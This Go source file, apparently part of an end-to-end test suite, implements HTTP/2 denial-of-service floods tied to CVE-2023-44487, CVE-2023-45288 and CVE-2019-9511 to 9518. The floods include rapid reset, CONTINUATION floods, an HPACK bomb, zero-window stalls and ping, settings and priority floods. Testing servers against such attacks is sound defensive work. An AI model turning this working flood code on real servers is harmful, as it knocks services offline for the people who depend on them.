package e2e

import (
	"bufio"
	"bytes"
	"context"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flooder writes frames of HTTP/2 that need not make sense.
type flooder struct {
	*http2.Framer
	out     *bufio.Writer
	block   bytes.Buffer
	encoder *hpack.Encoder
}

func newFlooder(conn net.Conn, settings ...http2.Setting) *flooder {
	f := &flooder{out: bufio.NewWriterSize(conn, 32<<10)}
	f.Framer = http2.NewFramer(f.out, nil)
	f.AllowIllegalWrites = true
	f.encoder = hpack.NewEncoder(&f.block)
	_, _ = io.WriteString(f.out, http2.ClientPreface)
	_ = f.WriteSettings(settings...)
	_ = f.WriteSettingsAck()
	return f
}

// head encodes a request and more fields.
func (f *flooder) head(path string, more ...hpack.HeaderField) []byte {
	f.block.Reset()
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path}, {Name: ":authority", Value: "a"},
	}, more...) {
		_ = f.encoder.WriteField(field)
	}
	return f.block.Bytes()
}

func (f *flooder) open(id uint32, path string, end bool, more ...hpack.HeaderField) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.head(path, more...), EndHeaders: true, EndStream: end})
}

// long writes a field section of any length as HEADERS and CONTINUATION.
func (f *flooder) long(id uint32, block []byte, whole bool) error {
	first := block[:min(len(block), 16<<10)]
	block = block[len(first):]
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: true, EndHeaders: whole && len(block) == 0}); err != nil {
		return err
	}
	for len(block) > 0 {
		part := block[:min(len(block), 16<<10)]
		block = block[len(part):]
		if err := f.WriteContinuation(id, whole && len(block) == 0, part); err != nil {
			return err
		}
	}
	return nil
}

// flood has what is done with the number of each turn repeated until the other side has had enough.
func flood(setup, turn func(f *flooder, i uint32) error, settings ...http2.Setting) func(context.Context, net.Conn) error {
	return func(ctx context.Context, conn net.Conn) error {
		f := newFlooder(conn, settings...)
		if setup != nil {
			if err := setup(f, 0); err != nil {
				return err
			}
		}
		for i := uint32(0); ctx.Err() == nil; i++ {
			if err := turn(f, i); err != nil {
				return err
			}
			if err := f.out.Flush(); i%32 == 31 && err != nil {
				return err
			}
		}
		return nil
	}
}

// http2Attacks are those of CVE-2023-44487 and 45288, CVE-2019-9511 to 9518 and their kin.
func http2Attacks() []attack {
	bomb := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3900)} // fills the dynamic table
	return []attack{
		{"rapid-reset", false, flood(nil, func(f *flooder, i uint32) error {
			_ = f.open(2*i+1, "/", true)
			return f.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
		})},
		{"made-you-reset", false, flood(nil, func(f *flooder, i uint32) error {
			_ = f.open(2*i+1, "/", true)
			return f.WriteWindowUpdate(2*i+1, 0)
		})},
		{"continuation", false, flood(func(f *flooder, _ uint32) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.head("/")})
		}, func(f *flooder, i uint32) error {
			f.block.Reset()
			_ = f.encoder.WriteField(hpack.HeaderField{Name: "x", Value: "y", Sensitive: true})
			return f.WriteContinuation(1, false, f.block.Bytes())
		})},
		{"empty-continuation", false, flood(func(f *flooder, _ uint32) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.head("/")})
		}, func(f *flooder, _ uint32) error { return f.WriteContinuation(1, false, nil) })},
		{"hpack-bomb", false, flood(nil, func(f *flooder, i uint32) error {
			block := bytes.Clone(f.head("/", bomb))
			return f.long(2*i+1, append(block, bytes.Repeat([]byte{0x80 | 62}, 16000)...), true) // 62 is what came last
		})},
		{"many-fields", false, flood(nil, func(f *flooder, i uint32) error {
			fields := make([]hpack.HeaderField, 10000)
			for n := range fields {
				fields[n] = hpack.HeaderField{Name: "x", Value: "y", Sensitive: true}
			}
			return f.long(2*i+1, f.head("/", fields...), true)
		})},
		{"zero-window", false, flood(nil, func(f *flooder, i uint32) error { return openSome(f, i, "/large") }, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})},
		{"one-byte-window", false, flood(nil, func(f *flooder, i uint32) error { return openSome(f, i, "/large") }, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})},
		{"settings", true, flood(nil, func(f *flooder, i uint32) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1000 + i%2}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: i % 4096})
		})},
		{"ping", true, flood(nil, func(f *flooder, i uint32) error { return f.WritePing(false, [8]byte{byte(i)}) })},
		{"priority", false, flood(nil, func(f *flooder, i uint32) error {
			return f.WritePriority(2*(i%1000)+1, http2.PriorityParam{StreamDep: 2*(i%999) + 3, Weight: byte(i)})
		})},
		{"empty-data", false, flood(func(f *flooder, _ uint32) error { return f.open(1, "/upload", false) },
			func(f *flooder, _ uint32) error { return f.WriteData(1, false, nil) })},
		{"window-updates", false, flood(nil, func(f *flooder, _ uint32) error { return f.WriteWindowUpdate(0, 1) })},
	}
}

// openSome opens streams, as many as most servers take, and then waits.
func openSome(f *flooder, i uint32, path string) error {
	if i < 100 {
		return f.open(2*i+1, path, true)
	}
	if err := f.out.Flush(); err != nil {
		return err
	}
	return waitABit(f, i)
}

// waitABit keeps the connection in use at a low rate.
func waitABit(f *flooder, i uint32) error {
	sleepBriefly()
	return f.WritePing(false, [8]byte{byte(i)})
}
